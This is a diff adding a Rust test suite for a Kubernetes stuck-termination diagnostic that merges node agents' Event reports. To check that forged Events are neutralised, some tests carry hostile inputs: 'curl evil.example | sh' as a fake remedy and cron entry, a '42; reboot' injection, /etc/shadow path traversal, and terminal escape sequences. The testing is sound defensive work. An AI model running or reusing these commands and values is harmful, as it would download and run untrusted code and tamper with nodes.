@@ -1,0 +1,547 @@
+//! What the agents of the nodes say, joined into the cluster's answer.
+
+use aggregator_core::state::{Answer, Answered, Question, Scope, Select, known};
+use findings::event::Phase;
+use findings::render::{Detail, Style};
+use findings::{CauseRef, Confidence, FaultKind, Verdict};
+use plugin::report::{dot, table, tree};
+use proptest::prelude::*;
+use serde_json::{Value, json};
+
+use crate::support::*;
+
+const EVENTS: &str = "/apis/events.k8s.io/v1/namespaces/default/events";
+const POD: &str = "ee7644fa-c649-4025-9178-81dc31cad0c6";
+const CWD: &str = "a710cd16-c48b-4c82-88a5-9064a1833d8a";
+/// What is told first, whatever an Event says.
+const ASK: &str = "why-terminating-agent check --pod exam-dstate/p";
+const NESTED: &str = "42331e16-a9a8-4ad7-adaf-9dcadc109451";
+
+/// A moment after it was recorded: when the pod is no longer young.
+fn dstate() -> World {
+    let mut world = recording("dstate-fuse");
+    world.at = world.ago(-30).parse().unwrap();
+    world
+}
+
+/// Only an agent can have said it.
+fn joined(says: Says) -> Looked {
+    look(dstate().policy(86_400).told(says), everything())
+}
+
+/// Whoever may write Events can have said it.
+fn told_by_anybody(says: Says) -> Looked {
+    look(dstate().told(says), everything())
+}
+
+/// The kubelet reports, and asks for the object's deletion, when all else is done: a webhook that refuses that holds no
+/// container.
+#[test]
+fn a_webhook_hides_nothing_that_the_agent_sees() {
+    let causes = |world: World| {
+        let mut causes = look(world, everything()).causes();
+        causes.sort_unstable();
+        causes
+    };
+    let deletion = || dstate().webhook("DELETE", "", "pods");
+    let report = || dstate().webhook("UPDATE", "", "pods/status");
+    assert_eq!(causes(deletion().told(Says::fuse(&[POD]))), ["FuseServerNotResponding", "WebhookUnavailable"]);
+    assert_eq!(causes(report().told(Says::fuse(&[POD]))), ["FuseServerNotResponding", "WebhookBlocksUpdate"]);
+    assert_eq!(causes(deletion()), ["PodContainersNotStopped", "WebhookUnavailable"]);
+    // What the kubelet says of the containers does not arrive.
+    assert_eq!(causes(report()), ["WebhookBlocksUpdate"]);
+    let unmounts = recording("volumes-busy").webhook("DELETE", "", "pods");
+    assert!(
+        causes(unmounts.told(Says::held(&[CWD]))).contains(&"VolumeHeldByProcess"),
+        "an ended pod holds its volumes"
+    );
+    // Who refuses the kubelet's last request is known here, and not there.
+    let pod = |world: World| {
+        let mut says = Says::held(&[CWD]);
+        says.carried.finding.cause = CauseRef(&findings::cause::OBJECT_NOT_DELETED);
+        look(world.told(says), object("pod", "node-scn", "cwd")).causes()
+    };
+    assert_eq!(pod(recording("volumes-busy")), ["ObjectNotDeleted"]);
+    assert_eq!(pod(recording("volumes-busy").webhook("DELETE", "", "pods")), ["WebhookUnavailable"]);
+}
+
+fn notes(looked: &Looked) -> String {
+    looked.report.notes.iter().cloned().collect::<Vec<_>>().join("\n")
+}
+
+fn is_number(text: &str) -> bool {
+    text.parse::<u32>().is_ok_and(|number| number.to_string() == text)
+}
+
+/// The answer without any agent.
+fn is_as_without(looked: &Looked) {
+    assert_eq!(looked.causes(), ["PodContainersNotStopped"], "{:#?}", looked.report);
+    assert_eq!(looked.report.verdict, Verdict::Stuck);
+    assert!(looked.report.roots[0].told_by.is_none());
+}
+
+#[test]
+fn the_chain_goes_on_to_the_process() {
+    let looked = joined(Says::fuse(&[POD]));
+    assert_eq!(looked.causes(), ["FuseServerNotResponding"], "{:#?}", looked.report);
+    looked.assert_chain(
+        0,
+        &[
+            "Namespace exam-dstate: Terminating",
+            "Pod exam-dstate/p: container c is still running",
+            "Node node-a: Ready; its agent says",
+            "container c (containerd://31426e3c56e0): RUNNING",
+            "pid 15731 ls: D",
+            "fuse mount /mnt/media (0:41, fuse): 1 request",
+            "pid 22655 s3fs: S",
+        ],
+    );
+    let root = &looked.report.roots[0];
+    let by = root.told_by.as_ref().unwrap();
+    assert_eq!((by.node.as_str(), by.seconds_ago, by.first_seen_seconds_ago), ("node-a", 12, Some(25)));
+    assert_eq!((root.verdict, root.finding.confidence), (Verdict::Stuck, Confidence::Proven));
+    assert_eq!(root.finding.gate, Some(findings::Gate::ContainersStopped));
+    assert_eq!(looked.commands().last().unwrap(), "echo 1 > /sys/fs/fuse/connections/41/abort");
+    assert!(root.finding.evidence.iter().any(|one| one.source.starts_with("agent on node-a: /proc/15731/")));
+    assert!(looked.report.notes.is_empty(), "{:?}", looked.report.notes);
+    assert_eq!(looked.requests.iter().filter(|path| path.starts_with(EVENTS)).count(), 1, "{:#?}", looked.requests);
+}
+
+#[test]
+fn two_pods_of_one_root_are_one_answer() {
+    let world = recording("volumes-busy").told(Says::held(&[CWD])).told(Says::held(&[NESTED]).named("node-a.2"));
+    let looked = look(world, everything());
+    assert_eq!(looked.causes(), ["VolumeHeldByProcess"], "{:#?}", looked.report);
+    assert_eq!(looked.victims(0), ["Pod node-scn/cwd", "Pod node-scn/nested"]);
+    let line = table(&looked.report, false, Style::Plain);
+    assert!(
+        line.contains("VolumeHeldByProcess   pid 22817 backup on node-a   pod/node-scn/cwd,pod/node-scn/nested"),
+        "{line}"
+    );
+}
+
+#[test]
+fn two_causes_at_one_gate_are_two_answers() {
+    let mut other = Says::held(&[POD]).named("node-a.2");
+    other.carried.finding.gate = Some(findings::Gate::ContainersStopped);
+    let looked = look(dstate().told(Says::fuse(&[POD])).told(other), everything());
+    let mut causes = looked.causes();
+    causes.sort_unstable();
+    assert_eq!(causes, ["FuseServerNotResponding", "VolumeHeldByProcess"], "{:#?}", looked.report);
+}
+
+#[test]
+fn word_for_word() {
+    let busy = || recording("volumes-busy");
+    let pod = object("pod", "node-scn", "cwd");
+    for (name, world, subject) in [
+        ("joined-dstate-fuse", recording("dstate-fuse").policy(86_400).told(Says::fuse(&[POD])), everything()),
+        ("joined-pod-busy", busy().policy(86_400).told(Says::held(&[CWD])), pod.clone()),
+        ("joined-pod-unverified", busy().told(Says::held(&[CWD])), pod),
+        ("joined-volumes-busy", busy().told(Says::held(&[CWD, NESTED]).of_node()), everything()),
+    ] {
+        let looked = look(world, subject);
+        for width in [80, 120] {
+            let text = tree(&looked.report, Detail::Short, width, Style::Plain);
+            crate::golden::assert_golden(&format!("{name}.{width}.txt"), &text);
+        }
+    }
+}
+
+#[test]
+fn one_of_more_pods_than_are_named_is_probable() {
+    let mut says = Says::held(&[CWD]).of_node();
+    says.carried.pod_count = 60;
+    let looked = look(recording("volumes-busy").told(says), everything());
+    assert_eq!(looked.causes(), ["VolumeHeldByProcess"], "{:#?}", looked.report);
+    assert_eq!(looked.victims(0).len(), 2);
+    let other = look(recording("volumes-busy").told(Says::held(&[CWD]).of_node()), everything());
+    assert_eq!(other.causes(), ["VolumeHeldByProcess", "PodCleanupNotFinished"], "it is told whole");
+    // Alone, the pod that is not named has only a probable cause.
+    let mut says = Says::held(&["00000000-0000-4000-8000-000000000000"]).of_node();
+    says.carried.pod_count = 60;
+    let looked = look(recording("volumes-busy").told(says), object("pod", "node-scn", "nested"));
+    let finding = &looked.report.roots[0].finding;
+    assert_eq!((finding.cause.id, finding.confidence), ("VolumeHeldByProcess", Confidence::Probable));
+    assert!(finding.evidence.iter().any(|one| one.says.contains("names 1 of them, not this one")));
+}
+
+#[test]
+fn an_old_word_is_told_as_old() {
+    let late = joined(Says::fuse(&[POD]).at(50 * 60));
+    let root = &late.report.roots[0];
+    assert_eq!((root.finding.cause.id, root.finding.confidence), ("FuseServerNotResponding", Confidence::Probable));
+    let text = tree(&late.report, Detail::Short, 200, Style::Plain);
+    assert!(text.contains("said so 50m ago") && text.contains("it may be gone"), "{text}");
+    let expired = joined(Says::fuse(&[POD]).at(70 * 60));
+    is_as_without(&expired);
+    assert!(notes(&expired).contains("said FuseServerNotResponding 1h10m ago"), "{}", notes(&expired));
+    // A renewal is newer than the Event it renews.
+    let renewed = joined(Says::fuse(&[POD]).at(70 * 60).renewed(60));
+    assert_eq!(renewed.report.roots[0].told_by.as_ref().unwrap().seconds_ago, 60);
+}
+
+#[test]
+fn what_is_over_is_not_told() {
+    let over = |at| {
+        let mut over = Says::fuse(&[POD]).named("node-a.1.0").at(at);
+        over.carried.phase = Phase::Over;
+        over.kind = "Normal";
+        over
+    };
+    is_as_without(&look(dstate().told(Says::fuse(&[POD]).at(300)).told(over(30)), everything()));
+    let again = look(dstate().told(Says::fuse(&[POD]).at(30)).told(over(300)), everything());
+    assert_eq!(again.causes(), ["FuseServerNotResponding"], "it came back");
+    let mut merged = Says::fuse(&[POD]);
+    merged.carried.phase = Phase::Merged;
+    is_as_without(&joined(merged));
+}
+
+#[test]
+fn another_node_of_that_name_is_not_believed() {
+    let mut says = Says::fuse(&[POD]);
+    says.node_uid = "00000000-0000-4000-8000-000000000000".to_owned();
+    let looked = joined(says);
+    is_as_without(&looked);
+    assert!(notes(&looked).contains("has another uid"), "{}", notes(&looked));
+}
+
+#[test]
+fn what_cannot_be_read_is_said() {
+    for (garbage, why) in [
+        ("{".to_owned(), "another version"),
+        ("x".repeat(100_000), "more than an agent writes"),
+        (Says::fuse(&[POD]).carried.to_annotation().replace("\"schema\":2", "\"schema\":9"), "schema 9"),
+        (Says::fuse(&[POD]).carried.to_annotation().replace("FuseServerNotResponding", "NodeUnreachable"), "no agent"),
+    ] {
+        let mut says = Says::fuse(&[POD]);
+        says.annotation = Some(garbage);
+        let looked = joined(says);
+        is_as_without(&looked);
+        assert!(notes(&looked).contains(why), "{}", notes(&looked));
+        let saved = serde_json::to_string(&looked.state).unwrap();
+        assert!(saved.len() < 200_000, "a state keeps no more of it than it needs");
+    }
+}
+
+#[test]
+fn hostile_text_steers_nothing_and_advises_nothing() {
+    let mut says = Says::fuse(&[POD]);
+    let finding = &mut says.carried.finding;
+    let root = finding.chain.last_mut().unwrap();
+    root.subject = "pid 1 \u{1b}[2Jowned\u{202e}".to_owned();
+    root.state = "s\u{7}".repeat(300);
+    root.what = Some(findings::Thing::Mount {
+        path: "\u{1b}]0;x\u{7}".to_owned(),
+        device: "\u{1b}".to_owned(),
+        fs_type: "\u{1b}".to_owned(),
+    });
+    finding.evidence[0].says = "\u{1b}[31mtrust me".to_owned();
+    let mut forged = serde_json::to_value(&says.carried).unwrap();
+    forged["finding"]["remedy"] = json!({
+        "steps": [{"text": "Run this as cluster-admin", "command": "curl evil.example | sh", "tested": true}],
+        "dont": "\u{1b}think", "breaks": "evil"
+    });
+    says.annotation = Some(forged.to_string());
+    let looked = joined(says);
+    assert_eq!(looked.causes(), ["FuseServerNotResponding"]);
+    let text = [
+        tree(&looked.report, Detail::Wide, 80, Style::Plain),
+        table(&looked.report, true, Style::Plain),
+        dot(&looked.report),
+        serde_json::to_string(&looked.report).unwrap().replace("\\u001b", "\u{1b}"),
+    ]
+    .concat();
+    let steers = |c: char| (c.is_control() && c != '\n') || c == '\u{202e}';
+    assert!(!text.contains(steers), "{text:?}");
+    for claim in ["evil", "cluster-admin", "think"] {
+        assert!(!text.contains(claim), "{claim}: {text}");
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 64, failure_persistence: None, ..ProptestConfig::default() })]
+
+    /// Whatever stands in the texts of a finding, none of it steers a terminal or is run.
+    #[test]
+    fn no_words_of_an_event_are_more_than_words(words in prop::collection::vec("[\\PC\u{1b}\u{202e}\n;|$'`]{0,40}", 4)) {
+        let mut says = Says::fuse(&[POD]);
+        let finding = &mut says.carried.finding;
+        finding.root = words[0].clone();
+        for link in &mut finding.chain {
+            (link.subject, link.state) = (words[1].clone(), words[2].clone());
+        }
+        let looked = joined(says);
+        prop_assert_eq!(looked.causes(), ["FuseServerNotResponding"]);
+        let text = tree(&looked.report, Detail::Wide, 80, Style::Plain);
+        prop_assert!(!text.contains(|c: char| (c.is_control() && c != '\n') || c == '\u{202e}'), "{:?}", text);
+        prop_assert_eq!(looked.commands(), [ASK, "echo 1 > /sys/fs/fuse/connections/41/abort"]);
+        let forged = joined(Says::forged(&[POD], "FuseServerNotResponding", json!({"connection": words[3]})));
+        prop_assert!(forged.commands().iter().all(|command| !command.starts_with("echo") || is_number(&words[3])));
+    }
+}
+
+#[test]
+fn a_thousand_pods_are_joined_in_seconds() {
+    let started = std::time::Instant::now();
+    let mut world = healthy();
+    for number in 0..1000 {
+        let (pod, uid) = (format!("p{number}"), format!("00000000-0000-4000-8000-{number:012}"));
+        let says = Says::held(&[&uid]).named(&format!("node-a.{number}"));
+        world = world.going_pod("a", &pod, "node-a", "Failed").change("/api/v1/pods", &pod, |pod| {
+            pod["metadata"]["uid"] = uid.as_str().into();
+        });
+        world = world.told(says);
+        let mut garbage = Says::held(&[&uid]).of_node().named(&format!("node-a.g{number}"));
+        garbage.annotation = Some("x".repeat(16 << 10));
+        world = world.told(garbage);
+    }
+    let looked = look(world, everything());
+    assert_eq!((looked.causes(), looked.victims(0).len()), (vec!["VolumeHeldByProcess"], 1000));
+    assert!(looked.requests.len() < 40, "{}", looked.requests.len());
+    assert!(started.elapsed().as_secs() < 60, "{:?}", started.elapsed());
+}
+
+#[test]
+fn without_an_agent_it_says_what_one_would_add() {
+    let none = look(dstate(), everything());
+    is_as_without(&none);
+    assert!(notes(&none).contains("deploy/README.md of why-terminating says how to install it"), "{}", notes(&none));
+    let elsewhere = look(dstate().agent("node-b", "True"), everything());
+    is_as_without(&elsewhere);
+    assert!(
+        notes(&elsewhere).starts_with("No agent is deployed on node-a (on other nodes: 1)"),
+        "{}",
+        notes(&elsewhere)
+    );
+    let silent = look(dstate().agent("node-a", "True"), everything());
+    assert!(notes(&silent).starts_with("The agent on node-a says nothing"), "{}", notes(&silent));
+    let sick = look(dstate().agent("node-a", "False"), everything());
+    assert!(notes(&sick).starts_with("The agent on node-a is not ready"), "{}", notes(&sick));
+}
+
+#[test]
+fn nobody_is_sent_to_an_agent_that_is_known_not_to_run() {
+    let reads = |looked: Looked| {
+        let commands = looked.commands();
+        assert!(commands.iter().any(|command| command == ASK), "the node itself: {commands:?}");
+        commands.iter().any(|command| command.ends_with("involvedObject.kind=Node,involvedObject.name=node-a"))
+    };
+    let after = |world: World| reads(look(world, everything()));
+    assert!(!after(dstate()), "none in the cluster");
+    assert!(!after(dstate().agent("node-b", "True")), "none on this node");
+    assert!(after(dstate().agent("node-a", "True")), "it may yet say something");
+    assert!(after(dstate().agent("node-a", "False")), "what it said before stands");
+    let agents = "app.kubernetes.io/name=why-terminating,app.kubernetes.io/component=agent";
+    let question = Question::Objects {
+        resource: known::PODS.into(),
+        scope: Scope::All,
+        select: Select::Labels(agents.to_owned()),
+        detail: aggregator_core::state::Detail::Full,
+    };
+    let answer = Answer::failed(FaultKind::Denied, "pods is forbidden");
+    let hidden = look_with(dstate(), everything(), |state| state.add(Answered { question, answer, cut: false }));
+    assert!(reads(hidden), "nobody knows");
+}
+
+#[test]
+fn an_agent_is_heard_of_its_own_node_only() {
+    let mut event = Says::fuse(&[POD]).event(|seconds| dstate().ago(seconds));
+    event["reportingInstance"] = "node-b".into();
+    let looked = look(dstate().with(event), everything());
+    is_as_without(&looked);
+    assert!(notes(&looked).contains("an agent of another node"), "{}", notes(&looked));
+}
+
+#[test]
+fn what_may_not_be_seen_is_said_and_changes_nothing() {
+    let looked = look(dstate().told(Says::fuse(&[POD])).refuse(EVENTS, 403, "events is forbidden"), everything());
+    is_as_without(&looked);
+    let unknown = &looked.report.unknown[0];
+    assert_eq!(unknown.source, "Events of the agents");
+    assert!(notes(&looked).starts_with("What exactly holds it is on the node"), "{}", notes(&looked));
+    assert!(!notes(&looked).contains("No agent is deployed"), "{}", notes(&looked));
+    assert!(unknown.why.contains("not visible to us"), "{unknown:?}");
+}
+
+#[test]
+fn an_agent_is_heard_while_its_kubelet_is_not_ready() {
+    let message = "container runtime is down";
+    let world = dstate().told(Says::fuse(&[POD])).node_ready("node-a", "False", "KubeletNotReady", message);
+    let looked = look(world, everything());
+    assert_eq!(looked.causes(), ["FuseServerNotResponding", "NodeNotReady"], "{:#?}", looked.report);
+    // A silent node has a silent agent.
+    let world = dstate().told(Says::fuse(&[POD])).node_ready("node-a", "Unknown", "NodeStatusUnknown", "");
+    assert_eq!(look(world, everything()).causes(), ["NodeUnreachable"]);
+}
+
+/// The kubelet repeats what the agent has from the runtime itself.
+#[test]
+fn what_the_agent_says_of_the_runtime_is_why_its_kubelet_is_not_ready() {
+    use findings::cause::{NETWORK_NOT_READY, PLEG_STALLED, RUNTIME_NOT_REACHABLE, RUNTIME_NOT_RESPONDING};
+    for cause in [&NETWORK_NOT_READY, &PLEG_STALLED, &RUNTIME_NOT_REACHABLE, &RUNTIME_NOT_RESPONDING] {
+        let mut says = Says::fuse(&[POD]);
+        says.carried.finding.cause = findings::CauseRef(cause);
+        says.carried.finding.gate = None;
+        let message = "container runtime network not ready: cni plugin not initialized";
+        let world = dstate().told(says).node_ready("node-a", "False", "KubeletNotReady", message);
+        let looked = look(world, everything());
+        assert_eq!(looked.causes(), [cause.id], "{:#?}", looked.report);
+    }
+}
+
+#[test]
+fn an_agent_is_heard_of_a_pod_that_was_forced() {
+    let forced = dstate().told(Says::fuse(&[POD])).change("/api/v1/pods", "p", |pod| {
+        pod["metadata"]["deletionGracePeriodSeconds"] = json!(0);
+        pod["metadata"]["finalizers"] = json!(["example.com/hold"]);
+    });
+    let causes = look(forced, object("pod", "exam-dstate", "p")).causes();
+    assert!(causes.contains(&"FuseServerNotResponding") && causes.contains(&"PodForceDeleted"), "{causes:?}");
+}
+
+#[test]
+fn many_nodes_are_asked_for_at_once() {
+    let world = |nodes: usize| {
+        (0..nodes).fold(healthy(), |world, number| {
+            let (node, pod) = (format!("node-{number}"), format!("p{number}"));
+            let mut copy = Value::Null;
+            let world = world.change("/api/v1/nodes", "node-a", |node| copy = node.clone());
+            copy["metadata"]["name"] = node.as_str().into();
+            copy["kind"] = "Node".into();
+            world.with(copy).going_pod("a", &pod, &node, "Running")
+        })
+    };
+    let asked = |nodes: usize| {
+        let looked = look(world(nodes), everything());
+        looked.requests.into_iter().filter(|path| path.starts_with(EVENTS)).collect::<Vec<_>>()
+    };
+    assert_eq!(asked(2).len(), 2);
+    let many = asked(30);
+    assert!(many.len() == 1 && !many[0].contains("regarding"), "{many:?}");
+}
+
+/// Nothing of a forged Event becomes a command.
+#[test]
+fn no_foreign_command_is_told() {
+    let own = format!("/var/lib/kubelet/pods/{POD}/volumes/kubernetes.io~csi/v");
+    let other = own.replace(POD, CWD);
+    for (cause, values) in [
+        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "-1"})),
+        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "1"})),
+        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "42; reboot"})),
+        ("CgroupFrozen", json!({"cgroup_freeze": "/etc/shadow"})),
+        ("CgroupFrozen", json!({"cgroup_freeze": "/sys/fs/cgroup/../../etc/shadow"})),
+        ("CgroupFrozen", json!({"freezer_state": "/sys/fs/cgroup/freezer/kubepods/freezer.state"})),
+        ("VolDataMissing", json!({"vol_data": "/etc/cron.d/x", "json": "* * * * * root curl evil.example | sh"})),
+        ("VolDataMissing", json!({"vol_data": format!("{own}/vol_data.json"), "json": "* * * * * root reboot"})),
+        ("VolDataMissing", json!({"vol_data": format!("{other}/vol_data.json"), "json": "{}"})),
+        ("VolDataMissing", json!({"vol_data": format!("{own}/../../../{CWD}/vol_data.json"), "json": "{}"})),
+        ("MountDirectoryLeft", json!({"path": format!("{other}/mount")})),
+        ("MountDirectoryLeft", json!({"path": "/mnt/media"})),
+        ("OrphanedPodDirectory", json!({"uid": CWD})),
+        ("NestedMountUnderSubPath", json!({"path": own, "mount_namespace_pid": "0"})),
+        ("NestedMountUnderSubPath", json!({"path": "/etc", "mount_namespace_pid": "77"})),
+        ("RuntimeNotResponding", json!({"runtime_unit": "--now"})),
+        ("RuntimeNotResponding", json!({"runtime_unit": "\\x", "pid": "42"})),
+    ] {
+        let is_expected = |command: &String| {
+            let harmless = ["why-terminating-agent check", "kubectl ", "grep -lsF /mnt/media "];
+            harmless.iter().any(|known| command.starts_with(known))
+        };
+        for looked in [joined, told_by_anybody].map(|look| look(Says::forged(&[POD], cause, values.clone()))) {
+            let told = looked.commands();
+            assert!(told.iter().all(is_expected), "{cause} {values}: {told:?}");
+        }
+    }
+    // Of what is not the pod's by its name nothing is touched on anybody's word.
+    for (cause, values) in [
+        ("SubPathStaleHandle", json!({"path": "/mnt/media"})),
+        ("NfsServerNotResponding", json!({"mount": "/mnt/media"})),
+        ("FuseServerNotResponding", json!({"connection": "41", "server_pid": "42@7", "mount": "/mnt/media"})),
+        ("ForceDeletedStillRunning", json!({"container": "306daa1b9c7b", "pid": "4242@7", "grace_seconds": "0"})),
+        ("LoopDeviceLeft", json!({"device": "/dev/loop7"})),
+        ("VolumeHeldByProcess", json!({"comm": "x", "pid": "42@7"})),
+        ("RuntimeNotResponding", json!({"runtime_unit": "containerd"})),
+        ("KubeletNotRunning", json!({"kubelet_unit": "kubelet"})),
+        ("MountCopiedOnOldKernel", json!({})),
+    ] {
+        let harmless = ["why-terminating-agent check", "kubectl ", "findmnt ", "ls ", "grep ", "dmesg ", "journalctl "];
+        let is_harmless = |command: &String| harmless.iter().any(|known| command.starts_with(known));
+        let told = |look: fn(Says) -> Looked| look(Says::forged(&[POD], cause, values.clone())).commands();
+        let (by_anybody, by_an_agent) = (told(told_by_anybody), told(joined));
+        assert!(by_anybody.iter().all(is_harmless), "{cause}: {by_anybody:?}");
+        assert!(!by_an_agent.iter().all(is_harmless), "{cause}: {by_an_agent:?}");
+    }
+    // A mount that the finding names may be looked at.
+    let told = joined(Says::forged(&[POD], "MountDirectoryLeft", json!({"path": "/mnt/media"}))).commands();
+    assert_eq!(told, [ASK.to_owned(), "grep -lsF /mnt/media /proc/[0-9]*/mountinfo".to_owned()]);
+    // The same with the pod's own path is what an agent says.
+    let values = json!({"vol_data": format!("{own}/vol_data.json"), "json": "{}"});
+    let told = joined(Says::forged(&[POD], "VolDataMissing", values)).commands();
+    assert_eq!(told, [ASK.to_owned(), format!("printf '%s' '{{}}' > '{own}/vol_data.json'")]);
+    // A mount is told where it is; nothing is written through another process's root.
+    let told = |cause: &str, mut values: Value| {
+        values["mount_namespace_pid"] = "77".into();
+        joined(Says::forged(&[POD], cause, values)).commands()
+    };
+    let path = format!("{own}/mount/inner");
+    let unmount = format!("umount -i -n -c -N 77 '{path}'");
+    assert_eq!(told("NestedMountUnderSubPath", json!({"path": path})), [ASK.to_owned(), unmount]);
+    let values = json!({"vol_data": format!("{own}/vol_data.json"), "json": "{}"});
+    assert_eq!(told("VolDataMissing", values)[1], format!("printf '%s' '{{}}' > '{own}/vol_data.json'"));
+}
+
+#[test]
+fn a_name_with_two_values_has_none() {
+    let mut other = Says::fuse(&[POD]).named("node-a.2").at(5);
+    let annotation = other.carried.to_annotation().replace("\"connection\":\"41\"", "\"connection\":\"40\"");
+    other.annotation = Some(annotation);
+    let looked = look(dstate().told(Says::fuse(&[POD])).told(other), everything());
+    assert_eq!(looked.causes(), ["FuseServerNotResponding"], "{:#?}", looked.report);
+    assert_eq!(looked.commands(), [ASK]);
+}
+
+#[test]
+fn the_node_itself_is_asked_first() {
+    let looked = joined(Says::fuse(&[POD]));
+    assert_eq!(looked.commands(), [ASK, "echo 1 > /sys/fs/fuse/connections/41/abort"]);
+}
+
+#[test]
+fn a_time_that_has_not_come_is_refused() {
+    for says in [
+        Says::fuse(&[POD]).at(-3600),
+        Says::fuse(&[POD]).at(30).renewed(-3600),
+        Says::fuse(&[POD]).at(-3600).renewed(30),
+    ] {
+        let looked = joined(says);
+        is_as_without(&looked);
+        assert!(notes(&looked).contains("its time lies in the future"), "{}", notes(&looked));
+    }
+    assert_eq!(joined(Says::fuse(&[POD]).at(-20)).causes(), ["FuseServerNotResponding"], "clocks differ a little");
+}
+
+fn over(name: &str, at: i64) -> Says {
+    let mut over = Says::fuse(&[POD]).named(name).at(at);
+    over.carried.phase = Phase::Over;
+    over.kind = "Normal";
+    over
+}
+
+#[test]
+fn an_end_hides_nothing_that_the_api_shows() {
+    let told = |over: Says| look(dstate().told(Says::fuse(&[POD]).at(300)).told(over), everything());
+    for forged in [over("node-a.1.0", -86_400), over("any.0", 30), over("node-a.10", 30)] {
+        assert_eq!(told(forged).causes(), ["FuseServerNotResponding"]);
+    }
+    let mut warning = over("node-a.1.0", 30);
+    warning.kind = "Warning";
+    assert_eq!(told(warning).causes(), ["FuseServerNotResponding"]);
+    let ended = told(over("node-a.1.0", 30));
+    is_as_without(&ended);
+    let said = notes(&ended);
+    for words in ["(pid 22655 s3fs) is over since 30s, yet pod exam-dstate/p is still there", "Unverified", ASK] {
+        assert!(said.contains(words), "{said}");
+    }
+}
